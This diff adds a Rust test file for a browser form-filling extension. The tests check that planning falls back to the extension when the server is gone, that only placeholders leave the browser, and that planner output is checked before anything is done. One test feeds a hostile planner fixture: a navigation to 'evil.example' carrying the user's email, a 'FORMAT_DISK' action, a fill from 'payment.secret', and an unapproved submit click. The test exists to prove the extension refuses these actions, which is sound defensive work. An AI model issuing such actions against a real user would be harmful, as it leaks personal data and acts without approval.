@@ -1,0 +1,201 @@
+//! Who plans: the server, the extension when there is none, and endpoints that must not be believed.
+
+use std::{
+    io::{Read as _, Write as _},
+    net::{TcpListener, TcpStream},
+    thread,
+};
+
+use serde_json::{Value, json};
+use tests::server::Server;
+
+use crate::stage::{PATIENCE, Stage, app, rests};
+
+/// Proves that plans come from the real server, over the network, with keys alone, and that its trace
+/// holds what was done.
+#[test]
+fn the_server_plans_and_keeps_a_trace_without_values() {
+    let stage = Stage::with_server_setting();
+    let server = Server::start(&[]).expect("the server starts");
+    stage.vaulty.use_server(&server).expect("the extension knows the server");
+    let (tab, popup) = stage.start("simple.html");
+    rests(&popup, "paused_for_approval");
+    let job = popup.job().expect("a job");
+    assert_eq!(job["plannerNote"], "Planned by the server", "{job}");
+    assert_eq!(app(&tab)["values"]["email"], "ada@example.org");
+    popup.approve(false).expect("yes");
+    rests(&popup, "done");
+    for line in server.output() {
+        assert!(!line.contains("ada@example.org") && !line.contains("Beispielweg"), "{line}");
+    }
+}
+
+/// Proves that a server that was never started is no obstacle, and that the popup says who planned.
+#[test]
+fn without_a_server_the_extension_plans() {
+    let stage = Stage::with_server_setting();
+    let (tab, popup) = stage.start("simple.html");
+    rests(&popup, "paused_for_approval");
+    assert_eq!(app(&tab)["values"]["email"], "ada@example.org");
+    let note = popup.job().expect("a job")["plannerNote"].as_str().unwrap_or_default().to_owned();
+    assert!(note.contains("planned in the extension"), "{note}");
+    assert!(popup.text("#view-fill, body").expect("text").contains("planned in the extension"));
+}
+
+/// Proves that a server that dies between two pages of a form costs nothing.
+#[test]
+fn a_server_that_dies_in_the_middle_costs_nothing() {
+    let stage = Stage::with_server_setting();
+    let mut server = Server::start(&[]).expect("the server starts");
+    stage.vaulty.use_server(&server).expect("the extension knows the server");
+    let (tab, popup) = stage.start("two-page/1.html");
+    rests(&popup, "paused_for_approval");
+    server.kill();
+    popup.approve(true).expect("yes");
+    rests(&popup, "paused_for_approval");
+    popup.approve(false).expect("yes");
+    rests(&popup, "done");
+    assert_eq!(app(&tab)["submits"], 2);
+    let note = popup.job().expect("a job")["plannerNote"].as_str().unwrap_or_default().to_owned();
+    assert!(note.contains("planned in the extension"), "{note}");
+}
+
+/// An endpoint that knows only the old contract and answers every question about a plan with `answers`, in
+/// turn; the last one again and again. Keeps the bodies that it got.
+struct Endpoint {
+    url: String,
+    bodies: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
+}
+
+impl Endpoint {
+    fn answering(answers: Vec<Value>) -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
+        let url = format!("http://{}", listener.local_addr().expect("an address"));
+        let bodies = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+        let kept = bodies.clone();
+        // Ends with the test's process; it serves nothing but this test.
+        thread::spawn(move || {
+            let mut turn = 0;
+            for stream in listener.incoming().flatten() {
+                if let Some((path, body)) = read_request(&stream) {
+                    let answer = if path == "/api/agent/next" {
+                        kept.lock().expect("a lock").push(body);
+                        let answer = answers.get(turn).or(answers.last()).cloned();
+                        turn += 1;
+                        answer
+                    } else {
+                        None
+                    };
+                    respond(&stream, answer);
+                }
+            }
+        });
+        Self { url, bodies }
+    }
+}
+
+fn read_request(mut stream: &TcpStream) -> Option<(String, String)> {
+    let mut bytes = Vec::new();
+    let mut buffer = [0; 65_536];
+    loop {
+        let count = stream.read(&mut buffer).ok()?;
+        if count == 0 {
+            return None;
+        }
+        bytes.extend_from_slice(&buffer[..count]);
+        let text = String::from_utf8_lossy(&bytes).into_owned();
+        let Some((head, body)) = text.split_once("\r\n\r\n") else { continue };
+        let length = head
+            .lines()
+            .find_map(|line| line.to_lowercase().strip_prefix("content-length:")?.trim().parse::<usize>().ok())
+            .unwrap_or(0);
+        if body.len() >= length {
+            let path = head.split(' ').nth(1)?.split('?').next()?.to_owned();
+            return Some((path, body.to_owned()));
+        }
+    }
+}
+
+fn respond(mut stream: &TcpStream, answer: Option<Value>) {
+    let (status, body) = match answer {
+        Some(answer) => ("200 OK", answer.to_string()),
+        None => ("404 Not Found", "{}".to_owned()),
+    };
+    // A client that has gone away needs no answer.
+    let _ = write!(
+        stream,
+        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+        body.len()
+    );
+}
+
+fn with_endpoint(answers: Vec<Value>) -> (Stage, Endpoint) {
+    let endpoint = Endpoint::answering(answers);
+    let stage = Stage::with_server_setting();
+    stage
+        .vaulty
+        .home()
+        .set_settings(&[("#use-server", true.into()), ("#api-base", endpoint.url.as_str().into())])
+        .expect("settings are saved");
+    (stage, endpoint)
+}
+
+/// Proves that an endpoint of the old contract is spoken with: placeholders go out, placeholders come back,
+/// one action at a time, and no value ever leaves.
+#[test]
+fn an_endpoint_of_the_old_contract_fills_by_placeholders() {
+    let fill = |id: &str, value: &str| {
+        json!({"action": {"type": "FILL", "target": {"by": "id", "selector": id}, "value": value},
+               "forceLive": false})
+    };
+    let (stage, endpoint) = with_endpoint(vec![
+        fill("first", "{{firstName}}"),
+        fill("email", "{{email}}"),
+        json!({"action": {"type": "DONE", "summary": "Filled two fields."}, "forceLive": false}),
+    ]);
+    let (tab, popup) = stage.start("simple.html");
+    rests(&popup, "done");
+    assert_eq!(app(&tab)["values"], json!({"first": "Ada", "email": "ada@example.org"}));
+    let bodies = endpoint.bodies.lock().expect("a lock").join("\n");
+    assert!(bodies.contains("{{address.city}}"), "the placeholder profile is sent");
+    for value in ["ada@example.org", "Beispielweg", "Ada", "10115"] {
+        assert!(!bodies.contains(value), "{value} left the browser");
+    }
+}
+
+/// Proves that a hostile endpoint gets nothing done: unknown actions, literals, other sites, selectors that
+/// match nothing or too much. The extension's own rules finish the job.
+#[test]
+fn a_hostile_planner_gets_nothing_done() {
+    let (stage, _endpoint) = with_endpoint(vec![json!({"actions": [
+        {"type": "FORMAT_DISK"},
+        {"type": "NAVIGATE", "url": "https://evil.example/?x={{email}}"},
+        {"type": "FILL", "target": {"by": "css", "selector": "input"}, "valueFrom": "email"},
+        {"type": "FILL", "target": {"by": "xpath", "xpath": "///"}, "valueFrom": "email"},
+        {"type": "FILL", "target": {"by": "id", "selector": "nothing"}, "valueFrom": "email"},
+        {"type": "FILL", "target": {"by": "id", "selector": "first"}, "valueFrom": "payment.secret"},
+        {"type": "CLICK", "target": {"by": "text", "text": "Send"}, "requiresApproval": false}
+    ]})]);
+    let (tab, popup) = stage.start("simple.html");
+    popup.wait_at_rest(PATIENCE).expect("the job comes to rest");
+    assert_eq!(popup.status().expect("a status"), "paused_for_approval", "the click asks");
+    let seen = app(&tab);
+    assert_eq!(seen["submits"], 0);
+    assert_eq!(seen["values"], json!({}), "nothing was written by it");
+    assert_eq!(tab.page.url().expect("an address"), stage.site.url("simple.html"));
+}
+
+/// Proves that a value which a planner makes up becomes a question, and that the answer is remembered.
+#[test]
+fn an_invented_value_becomes_a_question() {
+    let (stage, _endpoint) = with_endpoint(vec![json!({"actions": [
+        {"type": "FILL", "target": {"by": "id", "selector": "first"}, "value": "Mallory"}
+    ]})]);
+    let (tab, popup) = stage.start("simple.html");
+    rests(&popup, "needs_input");
+    assert_eq!(app(&tab)["values"], json!({}));
+    popup.answer(&[("answers.First name", "Grace")]).expect("an answer");
+    popup.wait_at_rest(PATIENCE).expect("the job comes to rest");
+    assert_eq!(popup.stored("userProfile").expect("a profile")["answers"]["First name"], "Grace");
+    assert_ne!(app(&tab)["values"]["first"], "Mallory");
+}
